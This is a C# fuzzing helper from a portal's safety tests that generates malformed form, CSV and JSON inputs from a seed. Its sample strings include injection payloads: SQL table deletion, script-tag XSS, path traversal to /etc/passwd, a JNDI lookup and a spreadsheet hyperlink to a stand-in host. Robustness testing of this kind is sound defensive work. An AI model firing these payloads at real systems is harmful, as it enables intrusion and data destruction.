using System.Text;
using System.Text.Json;

namespace Adoption.Portal.Tests.Safety;

/// <summary>What comes in when somebody is careless or means ill; the same for the same seed.</summary>
internal sealed class Nonsense(int seed)
{
    private static readonly string[] Texts =
    [
        "", " ", "\0", "\u202Ehtap", "=1+1", "=HYPERLINK(\"http://evil.example\")", "<script>alert(1)</script>", "'; DROP TABLE rollouts; --", "../../etc/passwd",
        "%00%0a%0d", "null", "-1", "0", "1e309", "99999999999999999999", "2027-02-30", "9999-12-31", "true", "Agreed", "standard", "Hr", "de", "return", "yes",
        "\uFFFD\uFFFE", "👩‍🚀", "ﷺ", "{{7*7}}", "${jndi:ldap://evil.example/a}", "Set-Cookie: a=b\r\n\r\n", "[]", "{}", "\"", "\\", "a;b;c\n1;2;3",
    ];

    private static readonly string[] Fields =
    [
        "department", "export", "language", "reason", "weeks", "licences", "confirmed", "verdict", "comment", "reference", "until", "restrictions", "number",
        "name", "roles", "days", "source", "plan", "version", "then", "back", "returnUrl", "usage", "helps", "timeSaved", "obstacle", "useCase", "title", "what",
        "tool", "category", "code", "keep", "people.hr.name", "people.head.address", "experimentation.weeks", "ladders.signOff.rungs[0].to",
        "ladders.signOff.rungs[99999999].to", "checkIns[-1]", "guardrails.mayGoIn", "worksCouncil.none", "licences.seats", "add", "remove", "none",
        "employees", "employeesCsv", "template", "text", "painPoints", "guardrails", "defaultLanguage", "answers", "firstDay", "mails", "",
    ];

    private readonly Random _random = new(seed);

    public int Next(int below) => _random.Next(below);

    public T Of<T>(IReadOnlyList<T> some) => some[_random.Next(some.Count)];

    public string Text() => _random.Next(12) switch
    {
        0 => new string('ä', _random.Next(1, 40_000)),
        1 => string.Concat(Enumerable.Range(0, _random.Next(1, 40)).Select(_ => (char)_random.Next(1, 0xD7FF))),
        2 => Of(Texts) + Of(Texts),
        _ => Of(Texts),
    };

    /// <summary>A name of a parameter as an address can carry it.</summary>
    public string PathPart() => Uri.EscapeDataString(Text() is { Length: > 0 and < 500 } text ? text : "x").Replace(".", "%2E", StringComparison.Ordinal);

    public IReadOnlyList<KeyValuePair<string, string>> Form() =>
        [.. Enumerable.Range(0, _random.Next(12)).Select(_ => KeyValuePair.Create(Of(Fields), Text()))];

    public byte[] Csv(byte[] good)
    {
        if (_random.Next(4) == 0)
        {
            return Bytes();
        }

        return Damage(good);
    }

    public byte[] Json(byte[] good) => _random.Next(4) switch
    {
        0 => Bytes(),
        1 => JsonSerializer.SerializeToUtf8Bytes(Form().GroupBy(f => f.Key, StringComparer.Ordinal).ToDictionary(g => g.Key, g => (object)g.First().Value, StringComparer.Ordinal)),
        2 => Encoding.UTF8.GetBytes(Of(
        [
            "{\"department\":\"\\ud800\"}", "{\"plan\":{\"name\":\"\\udfff\",\"name\":1}}", "{\"plan\":{\"a\":{\"a\":{\"a\":null}}},\"template\":\"standard\"}",
            "{\"employees\":[null]}", "{\"employees\":[{\"number\":\"\\u0000\"}]}", "{\"employees\":[[]]}", new string('[', 5_000), "{\"reason\":1e999}", "{\"weeks\":2147483648}",
            "{\"number\":79228162514264337593543950335,\"verdict\":\"Agreed\"}", "{\"until\":\"0001-01-01\",\"verdict\":\"ToleratedUntil\"}", "{\"verdict\":12}", "{\"restrictions\":[null]}",
            "{\"painPoints\":[null],\"verdict\":\"Done\"}", "{\"guardrails\":{\"mayGoIn\":[[[]]]}}", "\uFEFF{}", "{} {}", "/**/{}", "{\"text\":\"\\ud83d\"}",
        ])),
        _ => Damage(good),
    };

    private byte[] Damage(byte[] good)
    {
        var bytes = good.ToList();
        for (var i = _random.Next(1, 8); i > 0 && bytes.Count > 2; i--)
        {
            var at = _random.Next(bytes.Count - 1);
            switch (_random.Next(4))
            {
                case 0:
                    bytes[at] = (byte)_random.Next(256);
                    break;
                case 1:
                    bytes.RemoveRange(at, Math.Min(_random.Next(1, 50), bytes.Count - at));
                    break;
                case 2:
                    bytes.InsertRange(at, Encoding.UTF8.GetBytes(Of(Texts)));
                    break;
                default:
                    bytes.InsertRange(at, bytes.GetRange(at, Math.Min(_random.Next(1, 200), bytes.Count - at)));
                    break;
            }
        }

        return [.. bytes];
    }

    private byte[] Bytes()
    {
        var bytes = new byte[_random.Next(2_000)];
        _random.NextBytes(bytes);
        return bytes;
    }
}
